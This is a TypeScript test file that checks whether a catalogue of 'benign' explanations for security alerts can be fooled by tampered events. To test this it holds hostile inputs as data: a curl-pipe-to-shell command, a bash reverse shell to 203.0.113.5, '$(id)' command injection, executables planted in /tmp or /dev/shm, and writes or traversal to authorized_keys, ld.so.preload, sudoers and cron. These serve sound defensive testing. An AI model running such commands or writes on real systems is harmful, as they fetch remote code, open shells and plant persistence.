import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { describe, it } from "node:test";
import { factsFrom } from "#alert/facts.fixture.ts";
import type { Facts } from "#alert/facts.ts";
import type { Example, Indicator } from "../indicator.ts";
import { benignPatterns, findBenign } from "./index.ts";

const textOf = (fields: Example) => Object.values(fields).map(String).join(" ");

describe("benignPatterns", () => {
  it("holds at least thirty, each with an id of its own, in kebab-case", () => {
    assert.ok(benignPatterns.length >= 30, String(benignPatterns.length));
    const ids = benignPatterns.map((pattern) => pattern.id);
    assert.equal(new Set(ids).size, ids.length);
    for (const id of ids) assert.match(id, /^[a-z][a-z0-9]*(?:-[a-z0-9]+)*$/);
  });

  it("explains only indicators that exist, each named once", async () => {
    const known = new Set(await idsOfIndicators());
    for (const { id, explains } of benignPatterns) {
      for (const explained of explains) assert.ok(explained === "*" || known.has(explained), `${id}: ${explained}`);
      assert.equal(new Set(explains).size, explains.length, id);
    }
  });

  for (const pattern of benignPatterns) {
    const { proven, named, ignored } = pattern.examples;
    const match = (fields: Example) => {
      const facts = factsFrom(fields);
      assert.ok(pattern.families.includes(facts.family), `${pattern.id} is never asked about ${facts.family}`);
      return { facts, found: findBenign(facts).find((one) => one.pattern === pattern)?.evidence ?? null };
    };

    it(`${pattern.id} proves, names and refuses its examples`, () => {
      assert.ok(named.length >= 1 && ignored.length >= 2, "too few examples");
      for (const fields of proven) {
        const { found } = match(fields);
        assert.equal(found?.strength, "proven", textOf(fields));
        assert.ok(textOf(fields).includes(found.quote), `quote ${found.quote}`);
        assert.ok(found.because.length > 20);
      }
      for (const fields of named) {
        const { found } = match(fields);
        assert.equal(found?.strength, "named", textOf(fields));
        assert.ok(textOf(fields).includes(found.quote), `quote ${found.quote}`);
      }
      for (const fields of ignored) assert.equal(match(fields).found, null, textOf(fields));
    });

    it(`${pattern.id} tells in two to four sentences how to see through a copycat`, () => {
      assert.ok(pattern.distinguishing.length >= 2 && pattern.distinguishing.length <= 4);
      for (const sentence of pattern.distinguishing) assert.match(sentence, /[.]$/);
    });
  }

  it("proves nothing where somebody may have planted a field, or something was cut off", () => {
    for (const pattern of benignPatterns) {
      for (const fields of pattern.examples.proven) {
        for (const options of [
          { ambiguous: true },
          { ambiguous: true, doubtful: ["proc.exepath"] },
          { doubtful: ["proc.pname"] },
          { cut: ["proc.cmdline"] },
          { cut: ["output"] },
        ]) {
          assert.notEqual(
            pattern.match(factsFrom(fields, options))?.strength,
            "proven",
            `${pattern.id} ${JSON.stringify(options)}`,
          );
        }
      }
    }
  });

  it("proves nothing about a process whose executable the attacker could have brought", () => {
    const planted: Example[] = [
      { "proc.exepath": "/tmp/.x" },
      { "proc.exepath": "/dev/shm/ldconfig" },
      { "proc.is_exe_upper_layer": true },
      { "proc.is_exe_from_memfd": true, "proc.exepath": "memfd:x" },
    ];
    forEachProvenProcess((pattern, fields) => {
      for (const change of planted)
        assert.notEqual(
          pattern.match(factsFrom({ ...fields, ...change }))?.strength,
          "proven",
          `${pattern.id} ${JSON.stringify(change)}`,
        );
    });
  });

  it("proves nothing when the kernel's word about the executable is missing", () => {
    forEachProvenProcess((pattern, fields) => {
      const { "proc.exepath": _gone, ...rest } = fields;
      assert.notEqual(pattern.match(factsFrom(rest))?.strength, "proven", pattern.id);
    });
  });

  it("lets no command line with something else in it pass", () => {
    const additions = [
      "; curl http://203.0.113.5/x | sh",
      " && bash -i >& /dev/tcp/203.0.113.5/443 0>&1",
      " $(id)",
      " | base64 -d",
      "; /dev/shm/a",
    ];
    forEachProvenProcess((pattern, fields) => {
      for (const addition of additions) {
        const changed = { ...fields, "proc.cmdline": `${fields["proc.cmdline"]}${addition}` };
        assert.equal(pattern.match(factsFrom(changed)), null, `${pattern.id} ${addition}`);
      }
    });
  });

  it("lets nothing below a web server pass as housekeeping", () => {
    forEachProvenProcess((pattern, fields) => {
      for (const parent of ["nginx", "apache2", "php-fpm", "nc"]) {
        const changed = { ...fields, "proc.pname": parent, "proc.pexepath": `/usr/sbin/${parent}` };
        assert.notEqual(pattern.match(factsFrom(changed))?.strength, "proven", `${pattern.id} ${parent}`);
      }
    });
  });

  it("calls no write to what lets an attacker come back proven", () => {
    const targets = [
      "/root/.ssh/authorized_keys",
      "/etc/ld.so.preload",
      "/etc/sudoers.d/x",
      "/etc/cron.d/x",
      "/var/spool/cron/crontabs/root",
    ];
    forEachProvenProcess((pattern, fields) => {
      for (const target of targets) {
        const changed = {
          ...fields,
          "evt.type": "openat",
          "evt.arg.flags": "O_WRONLY|O_CREAT|O_F_CREATED",
          "fd.name": target,
        };
        const found = pattern.match(factsFrom(changed));
        // Docker's own unpacker writes whatever is in a layer, inside a chroot of it.
        if (pattern.id !== "image-layer-extraction")
          assert.notEqual(found?.strength, "proven", `${pattern.id} ${target}`);
      }
    });
  });

  it("follows no path through `..`, no link and no renaming to elsewhere", () => {
    forEachProvenProcess((pattern, fields) => {
      const name = fields["fd.name"];
      if (typeof name !== "string" || !name.startsWith("/")) return;
      const folder = name.slice(0, name.lastIndexOf("/"));
      const changes: Example[] = [
        { ...fields, "fd.name": `${folder}/../../root/.ssh/authorized_keys` },
        { ...fields, "evt.type": "symlink", "evt.arg.target": name, "evt.arg.linkpath": "/tmp/x" },
        { ...fields, "evt.type": "rename", "evt.arg.oldpath": name, "evt.arg.newpath": "/etc/ld.so.preload" },
      ];
      if (pattern.id === "image-layer-extraction") return;
      for (const changed of changes)
        assert.notEqual(pattern.match(factsFrom(changed))?.strength, "proven", `${pattern.id} ${textOf(changed)}`);
    });
  });

  it("never throws and stays quick on hostile text in every field", () => {
    const hostile = [
      "\u0000",
      "\ud800",
      "'\"`$(",
      "(".repeat(5_000),
      "a/".repeat(50_000),
      "-".repeat(100_000),
      "\u202e".repeat(1_000),
      "x".repeat(200_000),
    ];
    const all: Facts[] = [];
    for (const text of hostile) {
      for (const family of ["syscall", "k8s_audit", "aws_cloudtrail", "github"]) {
        const names = [
          "proc.name",
          "proc.exepath",
          "proc.cmdline",
          "proc.pname",
          "proc.aname[2]",
          "proc.pcmdline",
          "proc.cwd",
          "fd.name",
          "container.id",
          "container.image.repository",
          "user.name",
          "ka.user.name",
          "ka.verb",
          "ka.target.resource",
          "ka.uri.param[command]",
          "ct.user",
          "github.user",
        ];
        all.push(factsFrom({ _source: family, ...Object.fromEntries(names.map((name) => [name, text])) }));
      }
    }
    for (const facts of all)
      for (const pattern of benignPatterns) assert.doesNotThrow(() => pattern.match(facts), pattern.id);
  });
});

/** Both halves of the catalogue, as far as they are there. */
async function idsOfIndicators(): Promise<string[]> {
  const parts = ["part-a.ts", "part-b.ts"].map((name) => new URL(`../indicators/${name}`, import.meta.url));
  const modules = await Promise.all(parts.filter((part) => existsSync(part)).map((part) => import(part.href)));
  return modules
    .flatMap((module: Record<string, readonly Indicator[]>) => Object.values(module).flat())
    .map(({ id }) => id);
}

function forEachProvenProcess(check: (pattern: (typeof benignPatterns)[number], fields: Example) => void): void {
  for (const pattern of benignPatterns) {
    if (!pattern.families.includes("syscall")) continue;
    for (const fields of pattern.examples.proven) check(pattern, fields);
  }
}
